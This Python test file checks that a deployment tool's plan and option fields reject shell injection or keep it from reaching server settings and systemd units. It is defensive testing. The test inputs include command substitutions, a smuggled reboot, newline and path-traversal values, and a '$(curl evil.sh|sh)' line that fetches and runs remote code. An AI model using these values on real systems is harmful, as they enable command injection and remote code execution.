"""No byte of a plan or of the options reaches a shell, a unit or the gateway unchecked (hypothesis).

A plan can come from a file or stack config anyone edited. Each text field of the plan and of the options is set
to arbitrary text (shell metacharacters, newlines, `$(...)`, `..`, quotes, NUL ...): either the plan (or the
options) is refused at the boundary, naming that field, or the value is made of safe characters only, or it
changes no byte the server receives (free text such as the rationale, names only the cloud API sees); and in
every case what the server receives is still made of safe words: every settings line is KEY=<safe characters>,
every command line of every unit is safe words and `${NAME}` references.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from sample_plans import sample_plan

from inferstack.bootstrap import BootstrapOptions, render_bootstrap
from inferstack.errors import InputError
from inferstack.plan import DeploymentPlan

SAFE_TEXT = re.compile(r"[A-Za-z0-9._:/@+=,\[\]-]*")
SETTING_LINE = re.compile(r"[A-Z][A-Z0-9_]*=[A-Za-z0-9._:/@+=,\[\]-]*")
UNIT_WORD = re.compile(r"[+-]?([A-Za-z0-9._:/@+=,-]|\$\{(MODEL_DIR|MODEL_FILE|TRITON_REPO|MODEL_ROOT|RUNTIME_UID|"
                       r"RUNTIME_GID)\})+")
EXEC_KEYS = ("ExecStart", "ExecStartPre", "ExecStop", "ExecReload")

# The plan's text fields, free text included.
FREE_TEXT = [("price", "source"), ("rationale", 0), ("warnings", 0)]
PLAN_FIELDS = [("workload",), ("region",), ("instance_type",), ("offer",), ("precision",), ("model", "name"),
               ("model", "source_uri"), ("model", "bucket_prefix"), ("model", "artifact_format"),
               ("serving", "runtime"), ("serving", "engine"), ("serving", "backend"), ("serving", "health_path"),
               ("serving", "dtype"), ("serving", "quantization"), ("serving", "kv_cache_dtype"),
               ("accelerator", "id"), ("accelerator", "name"), ("accelerator", "attach_type"), *FREE_TEXT]
OPTION_FIELDS = ["model_bucket", "region", "api_key_secret", "hub_token_secret", "storage_endpoint",
                 "secret_endpoint", "metadata_endpoint"]
PLANS = {variant: sample_plan("gcp", variant).model_dump(mode="json")  # type: ignore[arg-type]
         for variant in ("gpu-llm", "cpu-llm", "cpu-encoder")}

hostile_text = st.one_of(
    st.text(min_size=1, max_size=40),
    st.sampled_from(["$(id>/tmp/p)", "`id`", "a;reboot", "x\nDEVICE=gpu", "../../../../srv/victim", "a b",
                     "awq$X}$(id>/tmp/p)", "'", '"', "\\", "%n", "${HOME}", "\0", "a\rb", "llama-3.1-8b\n"]),
    st.builds(lambda safe, bad: safe + bad, st.from_regex(r"[a-z0-9]{1,8}", fullmatch=True),
              st.sampled_from(list(" \n\t;&|$`'\"\\(){}<>*?!#~%\0"))),
)


def server_text(plan: DeploymentPlan, options: BootstrapOptions) -> tuple[str, dict[str, str]]:
    """All bytes the server receives, and each file it ends up with."""
    result = render_bootstrap(plan, plan.cloud, options)
    files = {f["path"]: f["content"] for f in yaml.safe_load(result.user_data)["write_files"]}
    files.update({f["path"]: f["content"] for f in json.loads(result.bundle)["files"]})
    return result.user_data + result.bundle, files


def assert_only_safe_words_reach_the_server(files: dict[str, str]) -> None:
    for line in files["/etc/inferstack/bootstrap.env"].splitlines():
        assert line.startswith("#") or SETTING_LINE.fullmatch(line), line
    for path, body in files.items():
        if not path.endswith(".service"):
            continue
        for line in body.splitlines():
            key, _, value = line.partition("=")
            if key in EXEC_KEYS:
                assert all(UNIT_WORD.fullmatch(word) for word in value.split(" ")), line


def options_for(plan: DeploymentPlan, **overrides: Any) -> BootstrapOptions:
    values = {"model_bucket": "acme-models", "region": plan.region, "api_key_secret": "inferstack-api-key",
              "hub_token_secret": "hub-token", **overrides}
    return BootstrapOptions(**values)


def with_value(data: dict[str, Any], path: tuple[Any, ...], value: str) -> dict[str, Any] | None:
    """`data` with the field at `path` set to `value`; None when the plan has no such field (a CPU plan's GPU)."""
    copy = json.loads(json.dumps(data))
    target = copy
    for key in path[:-1]:
        target = target[key]
        if target is None:
            return None
    if isinstance(target, list) and not target:
        target.append(value)
    target[path[-1]] = value
    return copy


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(variant=st.sampled_from(sorted(PLANS)), path=st.sampled_from(PLAN_FIELDS), value=hostile_text)
def test_a_hostile_plan_value_is_refused_naming_its_field_or_never_reaches_the_server(
        variant: str, path: tuple[Any, ...], value: str) -> None:
    data = with_value(PLANS[variant], path, value)
    assume(data is not None)
    try:
        plan = DeploymentPlan.model_validate(data)
    except ValidationError as error:
        assert any(tuple(e["loc"][:len(path)]) == path for e in error.errors()), (path, error)
        return
    try:
        text, files = server_text(plan, options_for(plan))
    except InputError as error:  # a value the renderer checks against the rest of the plan (format vs runtime)
        assert error.problems and all(p.fix for p in error.problems)
        return
    assert_only_safe_words_reach_the_server(files)
    if not SAFE_TEXT.fullmatch(value):
        baseline = DeploymentPlan.model_validate(PLANS[variant])
        assert text == server_text(baseline, options_for(baseline))[0], (path, value)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(variant=st.sampled_from(sorted(PLANS)), field=st.sampled_from(OPTION_FIELDS), value=hostile_text)
def test_a_hostile_option_is_refused_naming_its_field_or_never_reaches_the_server(
        variant: str, field: str, value: str) -> None:
    plan = DeploymentPlan.model_validate(PLANS[variant])
    try:
        options = options_for(plan, **{field: value})
    except ValidationError as error:
        assert [e["loc"] for e in error.errors()] == [(field,)], error
        return
    try:
        _, files = server_text(plan, options)
    except InputError as error:
        assert [p.field for p in error.problems] == [f"options.{field}"], error
        return
    assert_only_safe_words_reach_the_server(files)
    assert SAFE_TEXT.fullmatch(value), (field, value)


@pytest.mark.parametrize(("path", "value"), [
    (("serving", "quantization"), "awq$X}$(id>/tmp/p)"), (("workload",), "chat\nDEVICE=gpu"),
    (("instance_type",), "g6.xlarge\n. /tmp/x"), (("model", "name"), "../../../../srv/victim"),
    (("model", "name"), "$(curl evil.sh|sh)"), (("model", "bucket_prefix"), "models/../../x/"),
    (("serving", "health_path"), "/health; reboot"), (("serving", "dtype"), "bf16 --trust-remote-code")])
def test_the_reported_injections_are_refused_when_the_plan_is_read(path: tuple[str, ...], value: str) -> None:
    with pytest.raises(ValidationError) as raised:
        DeploymentPlan.model_validate(with_value(PLANS["gpu-llm"], path, value))
    assert [tuple(e["loc"]) for e in raised.value.errors()] == [path]
